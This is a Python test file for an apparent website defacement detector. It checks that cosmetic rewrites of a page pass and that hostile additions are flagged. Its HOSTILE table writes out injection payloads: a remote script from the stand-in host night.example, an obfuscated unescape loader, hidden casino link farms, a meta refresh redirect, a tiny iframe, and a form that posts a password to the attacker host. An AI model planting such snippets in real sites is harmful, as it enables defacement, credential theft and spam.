"""What holds of every comparison, whatever the pages are."""

import json
import subprocess
import sys
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sentinel.core import browser_form
from sentinel.core.compare import compare
from sentinel.core.comparison import Comparison
from sentinel.core.document import read_document
from sentinel.core.verdict import Verdict
from support.pages import PAGE, changed, compared

RANK = {Verdict.INTACT: 0, Verdict.EDITED: 1, Verdict.SUSPECT: 2, Verdict.DEFACED: 3}
HARMLESS = {Verdict.INTACT, Verdict.EDITED}

SCRAPS = st.sampled_from(
    [
        *(
            "<p>",
            "</p>",
            "<div hidden>",
            "</div>",
            "<table>",
            "<tr><td>",
            "</table>",
            "<b>",
            "</b>",
        ),
        *("<script>", "</script>", "<!--", "-->", "<style>.a{display:none}</style>", "<a href=/x>"),
        *("<svg>", "</svg>", "<template>", "</template>", "<title>", "</title>", "<plaintext>"),
        *(
            "<iframe srcdoc='<p>x'>",
            "</iframe>",
            "<noframes>",
            "</noframes>",
            "<frameset>",
            "<xmp>",
        ),
        *("&lt;", "&", "<", ">", "'", '"', "\0", "\ufeff", "हैक", "Hacked by ", "word ", " ", "\n"),
        *(
            "<script><!--<script></script>",
            "<form action=//x.example>",
            "<meta http-equiv=refresh>",
        ),
    ]
)
PAGES = st.one_of(
    st.binary(max_size=300),
    st.lists(SCRAPS, max_size=40).map("".join).map(str.encode),
    st.integers(min_value=0, max_value=len(PAGE)).map(lambda end: PAGE.encode()[:end]),
    st.lists(SCRAPS, max_size=8).map(
        lambda scraps: PAGE.replace("<h2>", f"{''.join(scraps)}<h2>").encode()
    ),
    st.integers(min_value=1, max_value=3000).map(lambda depth: b"<div><b>" * depth + b"x"),
)


def judged(before: bytes, after: bytes) -> Comparison:
    url = "http://institute.example/"
    return compare(read_document(before, url=url), read_document(after, url=url))


def said(found: Comparison) -> str:
    parts = [found.verdict, found.code, found.rule, found.score, found.reasons, found.exits]
    return json.dumps([*parts, [signal.code for signal in found.signals], found.measures])


@given(PAGES, PAGES)
@settings(max_examples=150, deadline=None)
def test_nothing_raises_and_the_same_is_said_again(before: bytes, after: bytes) -> None:
    assert said(judged(before, after)) == said(judged(before, after))


@given(PAGES)
@settings(max_examples=80, deadline=None)
def test_a_page_is_equal_to_itself(page: bytes) -> None:
    assert judged(page, page).verdict is Verdict.INTACT
    assert judged(page, bytes(bytearray(page))).code == "equal"


def test_equal_bytes_are_never_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    def parse(*_: object) -> None:
        raise AssertionError("a parser was called")

    monkeypatch.setattr(browser_form, "chunks", parse)
    monkeypatch.setattr("sentinel.core.reading.chunks", parse)
    body = PAGE.replace("canals", "canals and sluices").encode()
    assert judged(body, bytes(bytearray(body))).verdict is Verdict.INTACT


def with_tags(text: str, change: Callable[[str], str]) -> str:
    """The page with each tag rewritten."""
    pieces = text.replace("<", "\0<").replace(">", ">\0").split("\0")
    return "".join(change(piece) if piece.startswith("<") else piece for piece in pieces)


def reordered(tag: str) -> str:
    if tag.startswith("</") or tag.startswith("<!") or '" ' not in tag:
        return tag
    name, _, rest = tag[1:-1].partition(" ")
    parts = rest.replace('" ', '"\0').split("\0")
    return f"<{name} {' '.join(reversed(parts))}>" if all('="' in p for p in parts) else tag


SPELLINGS: dict[str, Callable[[str], bytes]] = {
    "order of attributes": lambda text: with_tags(text, reordered).encode(),
    "case of tags": lambda text: with_tags(
        text,
        lambda tag: tag.replace("<li", "<LI").replace("</li", "</Li").replace("href=", "HREF="),
    ).encode(),
    "quotes": lambda text: with_tags(text, lambda tag: tag.replace('"', "'")).encode(),
    "space in tags": lambda text: with_tags(text, lambda tag: tag.replace(" ", "\n\t ")).encode(),
    "space between tags": lambda text: (
        text.replace("><", ">\n   <").replace("</li>", "</li>\n").encode()
    ),
    "space in text": lambda text: text.replace(" the ", "  the\n").encode(),
    "comments": lambda text: (
        text.replace("<p>", "<!-- built --><p>").replace("</ul>", "<!--x--></ul>").encode()
    ),
    "references": lambda text: text.replace("ड", "&#2337;").replace("|", "&#x7c;").encode(),
    "ends of lines": lambda text: text.replace("\n", "\r\n").encode(),
    "byte order mark": lambda text: text.encode("utf-8-sig"),
    "UTF-16": lambda text: text.encode("utf-16"),
    "UTF-16 without a mark": lambda text: text.encode("utf-16-le"),
}


@pytest.mark.parametrize("name", SPELLINGS)
def test_another_spelling_of_the_same_is_no_sign(name: str) -> None:
    after = SPELLINGS[name](PAGE)
    assert after != PAGE.encode()
    assert judged(PAGE.encode(), after).verdict is Verdict.INTACT


@given(
    st.lists(
        st.sampled_from(sorted(set(SPELLINGS) - {"UTF-16", "UTF-16 without a mark"})), max_size=4
    )
)
@settings(max_examples=40, deadline=None)
def test_spellings_together_are_no_sign(names: list[str]) -> None:
    text = PAGE
    for name in names:
        text = SPELLINGS[name](text).decode("utf-8-sig")
    assert judged(PAGE.encode(), text.encode()).verdict in HARMLESS


HONEST = {
    "nothing": PAGE,
    "a sentence": changed(("</p>\n<h2>", " A new flume was opened.</p>\n<h2>")),
    "a notice": changed(('<ul id="news">', '<ul id="news"><li>Tender 44 is open</li>')),
    "another heading": changed(("Latest notices", "News and notices")),
    "another title": changed(
        ("<title>River Works Institute", "<title>Home - River Works Institute")
    ),
    "a film": changed(("<h2>", '<iframe src="https://www.youtube.com/embed/a"></iframe><h2>')),
    "half of it": PAGE.replace(PAGE[PAGE.index("<h2>") : PAGE.index("<form")], ""),
}
ESCAPED = "".join(f"%{ord(char):02x}" for char in "<script src=//night.example/x.js></script>")
FARM = "".join(f'<a href="http://farm{n}.example/">casino</a>' for n in range(6))
HOSTILE = {
    "claim in a heading": ("<main>", "<main><h1>Hacked by Night Crew</h1>", Verdict.DEFACED),
    "claim in the title": ("<title>", "<title>Hacked by Night Crew - ", Verdict.SUSPECT),
    "foreign script": (
        "</body>",
        "<script src=//night.example/x.js></script></body>",
        Verdict.SUSPECT,
    ),
    "hidden links": (
        "<footer>",
        f"<div style='display:none'>{FARM}</div><footer>",
        Verdict.DEFACED,
    ),
    "refresh": (
        "<title>",
        "<meta http-equiv=refresh content='0;url=//night.example/'><title>",
        Verdict.SUSPECT,
    ),
    "obfuscated script": (
        "</body>",
        f"<script>document.write(unescape('{ESCAPED}'))</script></body>",
        Verdict.DEFACED,
    ),
    "spam in the title": ("</title>", " casino viagra poker online</title>", Verdict.DEFACED),
    "foreign frame": (
        "<footer>",
        "<iframe src=//night.example/ width=1></iframe><footer>",
        Verdict.SUSPECT,
    ),
    "foreign form": (
        "<footer>",
        "<form action=//night.example/p><input type=password></form><footer>",
        Verdict.SUSPECT,
    ),
}
"""Where each is put, what, and the least that it argues for on the page as it was."""


def attacked(text: str, name: str) -> str:
    mark, hostile, _ = HOSTILE[name]
    return text.replace(mark, hostile, 1)


@pytest.mark.parametrize("name", HOSTILE)
def test_each_hostile_addition_is_seen(name: str) -> None:
    found = compared(attacked(PAGE, name))
    assert RANK[found.verdict] >= RANK[HOSTILE[name][2]], found.reasons


@given(
    st.sampled_from(sorted(HONEST)),
    st.lists(st.sampled_from(sorted(HOSTILE)), min_size=1, max_size=3, unique=True),
)
@settings(max_examples=120, deadline=None)
def test_a_hostile_addition_never_lowers_the_verdict(honest: str, names: list[str]) -> None:
    text = HONEST[honest]
    rank = RANK[compared(text).verdict]
    for name in names:
        text = attacked(text, name)
        found = compared(text)
        now = RANK[found.verdict]
        assert now >= max(rank, RANK[Verdict.SUSPECT]), (name, found.reasons)
        rank = now


@pytest.mark.parametrize(
    "look",
    [
        "<title>503 Service Unavailable</title><h1>Service Unavailable</h1><p>Try again later.</p>",
        "<title>Just a moment...</title><p>Checking your browser before you go on.</p>",
        PAGE[: len(PAGE) // 2],
    ],
)
def test_a_look_that_is_none_hides_no_claim(look: str) -> None:
    assert compared(look).verdict not in RANK
    assert compared(f"{look}<h1>Hacked by Night Crew</h1>").verdict is Verdict.DEFACED


def test_other_processes_say_the_same() -> None:
    """With another seed of hashes, no order that comes from a set may show."""
    program = (
        "import sys; sys.path.insert(0, 'tests'); sys.path.insert(0, 'tests/core')\n"
        "import test_compare_properties as t\n"
        "from support.pages import PAGE\n"
        "text = PAGE\n"
        "for name in sorted(t.HOSTILE):\n"
        "    text = t.attacked(text, name)\n"
        "print(t.said(t.judged(PAGE.encode(), text.encode())))\n"
    )
    shown = {
        subprocess.run(
            [sys.executable, "-c", program],
            env={"PYTHONHASHSEED": seed, "PYTHONPATH": "."},
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        for seed in ("1", "77")
    }
    assert len(shown) == 1


@pytest.mark.parametrize(
    "page",
    [
        b"<!--" * 4000,
        b"<title></title>" * 500 + b"".join(b"<font size=%d>x" % n for n in range(2000)),
        b"".join(b"<body a%d=1>" % n for n in range(20_000)),
        b"<br>" * 121_000 + b"<h1>Hacked by Night Crew</h1>",
    ],
    ids=["comments", "formatting", "merged attributes", "more than is parsed"],
)
def test_pages_that_cost_a_tree_too_much_are_read_all_the_same(page: bytes) -> None:
    assert judged(PAGE.encode(), page).verdict not in HARMLESS
    assert judged(page, page + b"<h1>Hacked by Night Crew</h1>").verdict is not Verdict.INTACT
